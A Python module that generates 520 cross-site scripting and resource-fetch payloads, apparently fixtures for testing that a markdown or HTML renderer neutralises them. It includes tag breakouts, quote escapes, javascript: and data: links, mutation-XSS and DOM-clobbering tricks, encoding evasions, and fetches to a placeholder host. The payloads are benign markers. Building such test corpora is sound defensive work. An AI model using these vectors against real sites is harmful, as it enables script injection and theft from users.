"""Texts that try to run a script or fetch something when they are shown: made from what browsers are known to heed.

Each would add its number to the page's list `ran`, or ask a host that is nobody's. No two are alike.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

HOST = "http://foreign.invalid"
COUNT = 520
RUN = "ran.push({n})"
ELEMENTS = (
    "img",
    "svg",
    "body",
    "iframe",
    "video",
    "audio",
    "details",
    "input",
    "object",
    "marquee",
    "math",
    "style",
    "a",
)
EVENTS = (
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onstart",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "onbeforetoggle",
)
LOADS = (
    '<img src="{host}/{n}">',
    '<img srcset="{host}/{n} 1x" src=x>',
    '<iframe src="{host}/{n}"></iframe>',
    '<link rel=stylesheet href="{host}/{n}">',
    '<link rel=prefetch href="{host}/{n}">',
    '<script src="{host}/{n}"></script>',
    "<style>@import '{host}/{n}';</style>",
    '<p style="background:url({host}/{n})">x</p>',
    '<video poster="{host}/{n}"></video>',
    '<audio src="{host}/{n}" autoplay></audio>',
    '<object data="{host}/{n}"></object>',
    '<embed src="{host}/{n}">',
    '<meta http-equiv="refresh" content="0;url={host}/{n}">',
    '<base href="{host}/{n}/">',
    '<form action="{host}/{n}"><button autofocus>x</button></form>',
    '<svg><image href="{host}/{n}"/></svg>',
    '<svg><use href="{host}/{n}#x"/></svg>',
    '<input type=image src="{host}/{n}">',
    '<table background="{host}/{n}"><tr><td>x</td></tr></table>',
    "![p]({host}/{n})",
    "![p][r]\n\n[r]: {host}/{n}",
    '[![p]({host}/{n})](https://a.invalid "t")',
    "<{host}/{n}>",
    '<picture><source srcset="{host}/{n}"><img></picture>',
)
SCRIPTS = (
    "<script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style></script><script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    '<iframe src="javascript:parent.{run}"></iframe>',
    '<object data="data:text/html,<script>parent.{run}</script>"></object>',
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    "` onfocus=`{run}` x=`",
    '"-{run}-"',
    "${{{run}}}",
    "{{{{ {run} }}}}",
    "{{% print({n}) %}}",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{n}')",
    "[x](vbscript:{run})",
    "<a href='javascript:{run}'>{n}</a>",
    "<javascript:{run}>",
    '[x](https://a.invalid/" onmouseover="{run})',
    '[x](https://a.invalid "\\" onmouseover=\\"{run}")',
    "```html\n</code></pre><script>{run}</script>\n```",
    '```"><img src=x onerror={run}>\ncode {n}\n```',
    '```js" onmouseover="{run}\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "> <script>{run}</script>",
    "1. <svg onload={run}>",
    "\\<script>{run}\\</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<x contenteditable onblur={run}>lose focus {n}</x>",
    "\u202e<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<img src=x:x onerror\x0b={run}>",
    "<img/src=x/onerror={run}>",
    '<img """><script>{run}</script>">',
    "<style>*{{animation:x}}@keyframes x{{}}</style><b onanimationstart={run}>{n}</b>",
    "<template><script>{run}</script></template>",
    "<form id=turns><input name=parentNode value={n}></form>",
    "<a id=ask><a id=ask name=dataset href='javascript:{run}'>",
)


def payloads() -> list[str]:
    return list(islice(_all(), COUNT))


def _all() -> Iterator[str]:
    number = 0
    for pattern in (*LOADS, *SCRIPTS):
        yield pattern.format(host=HOST, n=number, run=RUN.format(n=number))
        number += 1
    for quote in ('"', "'", ""):
        for element in ELEMENTS:
            for event in EVENTS:
                run = f"{quote}{RUN.format(n=number)}{quote}"
                yield f"<{element} src={quote}x{quote} {event}={run} tabindex=0 autofocus open>"
                number += 1
    for pattern in (*LOADS, *SCRIPTS):  # in the middle of words, in upper case
        made = pattern.format(host=HOST, n=number, run=f"window.{RUN.format(n=number)}")
        yield f"before {made.replace('script', 'SCRIPT').replace('img', 'IMG')} after {number}"
        number += 1
